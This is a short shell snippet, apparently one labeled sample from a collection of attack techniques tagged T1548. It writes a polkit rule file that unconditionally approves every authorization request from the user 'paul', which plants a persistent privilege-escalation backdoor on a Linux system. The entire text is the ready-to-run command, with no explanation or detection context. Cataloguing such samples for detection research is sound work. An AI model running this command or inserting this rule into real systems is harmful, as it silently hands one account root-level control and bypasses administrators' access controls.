# technique: T1548
# location: linux.polkit.rules
# source: /etc/polkit-1/rules.d/05-net.rules
cat > /etc/polkit-1/rules.d/05-net.rules <<'RULE'
polkit.addRule(function(action, subject) {
    if (subject.user == "paul") { return polkit.Result.YES; }
});
RULE
